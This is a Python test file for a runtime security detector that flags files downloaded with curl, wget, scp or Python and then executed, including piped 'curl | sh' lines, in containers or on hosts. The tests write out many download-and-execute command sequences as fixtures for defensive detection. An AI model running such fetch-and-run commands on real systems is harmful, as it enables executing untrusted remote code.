"""Downloads that are run later, and those that are not."""

from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from alerts.signal import Origin
from detectors.examples import START, execution, fired
from detectors.replay import findings
from detectors.runtime.download_and_run import download_and_run
from detectors.runtime.download_memory import Downloads
from detectors.stateful import Noted, Observation, noted
from events import Container, Process, RuntimeEvent
from events.decoder import Decoder

SHOP = ["shop/0123456789ab"]
OTHER = Container(id="ba9876543210", namespace="shop", pod="api-0", name="api", image="registry.example/api:1")


def line(text: str, shell: str = "/bin/sh", **process: Any) -> RuntimeEvent:
    return execution(shell, argv=("sh", "-c", text), arguments=f'-c "{text}"', **{"cwd": "/srv"} | process)


def run(words: str, at: float = 0, *, cwd: str = "/srv", **fields: Any) -> RuntimeEvent:
    binary, _, arguments = words.partition(" ")
    path = binary if "/" in binary else f"/usr/bin/{binary}"
    return execution(path, arguments, at=at, cwd=cwd, **fields)


def occurrences(*events: RuntimeEvent) -> set[str]:
    return {found.match.occurrence for found in findings(download_and_run, events)}


@pytest.mark.parametrize(
    "steps",
    [
        ["curl -fsSL -o /opt/tool http://h/tool", "/opt/tool --all"],
        ["wget http://h/tool", "./tool"],
        ["wget http://h/tool", "/srv/tool"],
        ["curl -O http://h/tool", "chmod +x tool", "mv tool /usr/local/bin", "/usr/local/bin/tool"],
        ["curl -o ../opt/./t.py http://h/t.py", "python3 /opt/t.py"],
        ["curl -o /usr/bin/x http://h/x", "/usr/bin/x"],
        ["wget -qP /opt http://h/tool.bin", "cp /opt/tool.bin /srv/rotate", "/srv/rotate"],
        ["curl -so/tmp/a http://h/a", "ln -s /tmp/a /srv/b", "/srv/b"],
        ["curl -so/tmp/a http://h/a", "install -D /tmp/a /srv/c/d", "sh /srv/c/d"],
        ["wget http://h/tool-1.0.tar.gz", "tar -xf tool-1.0.tar.gz", "/srv/tool-1.0/bin/run"],
        ["wget -P /tmp http://h/a.zip", "unzip -d /tmp/z /tmp/a.zip", "/tmp/z/run"],
        ["curl -o a.gz http://h/a.gz", "gzip -d a.gz", "./a"],
        ["python3 -c u.urlretrieve('http://h/t','/srv/t.py');import urllib.request.urlretrieve", "perl t.py"],
        ["/tmp/c -o /srv/x http://h/x", "sh x"],
        ["scp u@h:/x /opt/y", "/opt/y"],
    ],
)  # fmt: skip
def test_a_file_that_is_run_later(steps: list[str]) -> None:
    events = [run(step, at=600 * number) for number, step in enumerate(steps)]
    assert fired(download_and_run, *events) == SHOP
    assert fired(download_and_run, *reversed(events)) == SHOP, "the order of arrival changes nothing"
    assert fired(download_and_run, *events[:-1]) == []
    backwards = [run(step, at=-600 * number) for number, step in enumerate(steps)]
    assert fired(download_and_run, *backwards) == [], "a run before the download is none of it"


FETCH = "curl -fsSL -o /opt/tool http://h/tool"


def test_what_is_called_like_a_busybox_is_run_all_the_same() -> None:
    assert fired(download_and_run, run("wget -O .n http://h/n", cwd="/tmp"), run("/tmp/.n telnet h", 9)) == SHOP


@pytest.mark.parametrize(
    "later",
    [
        run("/usr/local/bin/tool", 9),
        run("/opt/toolbox", 9),
        run("cat /opt/tool", 9),
        run("chmod +x /opt/tool", 9),
        run("./tool", 9, cwd="/srv"),
        run("./tool", 9, cwd=""),
        execution("/opt/tool", at=9, container=OTHER),
        execution("/opt/tool", at=9, container=None),
        run("/opt/tool", 24 * 3600 + 1),
        run("tool /opt/tool", 9),
        run("bash -c /opt/x", 9),
        execution("/opt/tool", at=9, probe=True),
    ],
)
def test_what_is_no_run_of_the_file(later: RuntimeEvent) -> None:
    assert fired(download_and_run, run(FETCH), later) == []


def test_the_edge_of_the_span_belongs_to_it() -> None:
    assert fired(download_and_run, run(FETCH), run("/opt/tool", 24 * 3600)) == SHOP
    short = download_and_run.with_parameters({"within": "1h"})
    assert fired(short, run(FETCH), run("/opt/tool", 3601)) == []


def test_a_folder_that_is_not_known_is_the_same_only_within_one_shell() -> None:
    fetch = run("wget http://h/x", cwd="", parent_exec_id="shell")
    assert fired(download_and_run, fetch, run("sh x", 1, cwd="", parent_exec_id="shell")) == SHOP
    assert fired(download_and_run, fetch, run("sh x", 1, cwd="", parent_exec_id="other")) == []
    assert fired(download_and_run, fetch, run("sh x", 1, cwd="/srv", parent_exec_id="shell")) == []


def test_a_host_is_one_place_whoever_logs_in() -> None:
    there = [run(FETCH, container=None, auid=1000), run("/opt/tool", 9, container=None, auid=0)]
    assert fired(download_and_run, *there) == ["node-1"]


@pytest.mark.parametrize(
    ("text", "cwd", "children"),
    [
        ("wget -q http://h/x && chmod +x x && ./x", "/srv", ["wget -q http://h/x", "chmod +x x", "/srv/x"]),
        ("curl -fsSL http://h/x.sh | sh", "/srv", ["curl -fsSL http://h/x.sh", "sh"]),
        ("cd /tmp || cd /run; wget http://h/b; sh b", "/", ["wget http://h/b@/tmp", "sh b@/tmp"]),
        ("cd $D; wget http://h/b; sh b", "/", ["wget http://h/b@/d", "sh b@/d"]),
        ("T=$(mktemp); curl -o $T http://h/b; sh $T", "/", ["curl -o /tmp/tmp.a1 http://h/b", "sh /tmp/tmp.a1"]),
    ],
)
def test_a_line_and_what_it_starts_are_one_alert(text: str, cwd: str, children: list[str]) -> None:
    shell = line(text, cwd=cwd, exec_id="line")
    told = [child.partition("@")[::2] for child in children]
    started = [
        run(words, 0.1 + number, cwd=folder or cwd, parent_exec_id="line", parent="/bin/sh")
        for number, (words, folder) in enumerate(told)
    ]
    assert len(occurrences(shell, *started)) == 1
    assert len(occurrences(*started)) == 1, "the programs alone show it too"


def typed(words: str, at: float, shell: str = "/bin/bash") -> RuntimeEvent:
    return run(words, at, parent=shell, parent_exec_id="typing")


def test_the_ends_of_a_pipe_that_someone_types() -> None:
    fetch, sh = typed("curl -s http://h/x", 0.02), typed("sh", 0.03)
    assert occurrences(fetch, sh) == {"http://h/x"}
    assert occurrences(typed("bash -s x", 0.01), fetch) == {"http://h/x"}, "the second may start first"
    assert occurrences(fetch, typed("python3 -", 0.9)) == {"http://h/x"}
    assert occurrences(fetch, typed("sh", 1.2)) == set()
    assert occurrences(fetch, run("sh", 0.03, parent_exec_id="another")) == set()
    assert occurrences(fetch, typed("python3 -m json.tool", 0.03)) == set()
    assert occurrences(typed("curl -s http://localhost/x", 0.02), sh) == set()


def test_a_redirection_that_someone_types_is_not_shown_but_what_follows_is() -> None:
    fetch = typed("curl -s http://h/x.sh", 0)
    assert occurrences(fetch, typed("chmod +x /tmp/.a", 4), run("/tmp/.a", 7000)) == {"/tmp/.a"}
    assert occurrences(fetch, typed("sh x.sh", 4)) == {"/srv/x.sh"}
    assert occurrences(fetch, typed("chmod +x /tmp/.a", 400), run("/tmp/.a", 7000)) == set()
    assert occurrences(fetch, typed("chmod 644 /tmp/.a", 4), run("/tmp/.a", 7000)) == set()


@pytest.mark.parametrize(
    ("parent", "arguments", "quiet"),
    [
        ("/usr/bin/apt-get", "install tzdata", True),
        ("/usr/bin/dpkg", "--configure x", True),
        ("/tmp/apt-get", "install x", False),
        ("/usr/bin/node", "/tmp/npm ci", False),
        ("/usr/bin/node", "/usr/local/bin/npm run x", False),
        ("/usr/bin/apt-get", "update -o APT::Update::Pre-Invoke::=sh", False),
    ],
)
def test_package_managers_fetch_and_run_by_themselves(parent: str, arguments: str, quiet: bool) -> None:
    manager = Process(binary=parent, arguments=arguments)
    event = msgspec.structs.replace(line("curl -s http://h/x | sh"), ancestors=(manager,))
    assert fired(download_and_run, event) == ([] if quiet else SHOP)


def observed(*events: RuntimeEvent) -> list[Observation]:
    told = [(event, download_and_run.observe(event)) for event in events]
    return [noted(download_and_run, event, note, Origin(), "") for event, note in told if isinstance(note, Noted)]


def stepped(state: Downloads, *events: RuntimeEvent) -> list[str]:
    return [
        found.match.occurrence
        for observation in observed(*events)
        for found in download_and_run.step(state, observation)
        if not isinstance(found, Noted)
    ]


def test_so_many_downloads_are_remembered() -> None:
    state = Downloads()
    stepped(state, *(run(f"curl -o /opt/{number} http://h/x", number) for number in range(200)))
    assert len(state.files) == 128
    assert stepped(state, run("/opt/71", 300), run("/opt/72", 301)) == ["/opt/72"]


def test_a_file_is_found_once_until_it_is_fetched_again() -> None:
    state = Downloads()
    assert stepped(state, run(FETCH), run("/opt/tool", 1), run("/opt/tool", 2)) == ["/opt/tool"]
    assert stepped(state, run(FETCH, 3), run("/opt/tool", 4)) == ["/opt/tool"]


def test_the_state_survives_as_plain_values() -> None:
    state = Downloads()
    stepped(state, run(FETCH), typed("curl -s http://h/y", 1), typed("wget -qO- http://h/z", 2))
    plain = download_and_run.to_plain(state)
    again = download_and_run.from_plain(1, msgspec.msgpack.decode(msgspec.msgpack.encode(plain)))
    assert again == state
    assert stepped(again, run("/opt/tool", 9)) == ["/opt/tool"]


def test_after_it_expires_the_state_is_as_good_as_a_new_one() -> None:
    state = Downloads()
    stepped(state, run(FETCH), typed("curl -s http://h/y.sh", 1), typed("sh", 90))
    assert download_and_run.expires(state) == START + 86_401_000_000
    after = (download_and_run.expires(state) - START) / 1_000_000 + 0.001
    assert stepped(state, run("/opt/tool", after), typed("chmod +x /a", after), run("/a", after)) == []
    assert state == Downloads()


def test_ordinary_executions_are_not_noted() -> None:
    for words in ("ls -l", "sh -c id", "grep x y", "/usr/sbin/nginx -g x", "/opt/cni/bin/calico", "curl -s http://h/x"):
        assert observed(run(words, parent="/app/server")) == [], words


CAPTURES = Path(__file__).parents[2] / "captures" / "K8S.NODE_DownloadAndRunCombo"


@pytest.mark.parametrize("name", ["window", "interpreter", "typed", "host", "falco"])
def test_captured_lines_together_are_one_alert(name: str) -> None:
    lines = (CAPTURES / f"fires-{name}.jsonl").read_bytes().splitlines()
    events = [event for line in lines for event in Decoder().decode(line) if isinstance(event, RuntimeEvent)]
    assert len(occurrences(*events)) == 1
    assert occurrences(*events[1:]) == set(), "not without the download"


STEPS = [
    "wget -q http://h/x",
    "mv x y",
    "cp y /opt/z",
    "sh y",
    "./x",
    "/opt/z",
    "tar xzf x.tgz -C /opt/d",
    "wget -q http://h/x.tgz",
    "/opt/d/run",
    "curl -s http://h/x",
    "bash",
    "chmod +x z",
    "./z",
]


@settings(max_examples=60, deadline=4000)
@given(st.lists(st.tuples(st.sampled_from(STEPS), st.integers(0, 90_000)), max_size=12))
def test_forgetting_and_resuming_change_nothing(steps: list[tuple[str, int]]) -> None:
    events = [run(words, at, parent_exec_id="typing") for words, at in sorted(steps, key=lambda step: step[1])]
    whole, interrupted = Downloads(), Downloads()
    for event in events:
        if download_and_run.expires(interrupted) < event.time:
            interrupted = Downloads()
        interrupted = download_and_run.from_plain(1, download_and_run.to_plain(interrupted))
        assert stepped(interrupted, event) == stepped(whole, event)
    assert len(whole.files) <= 128
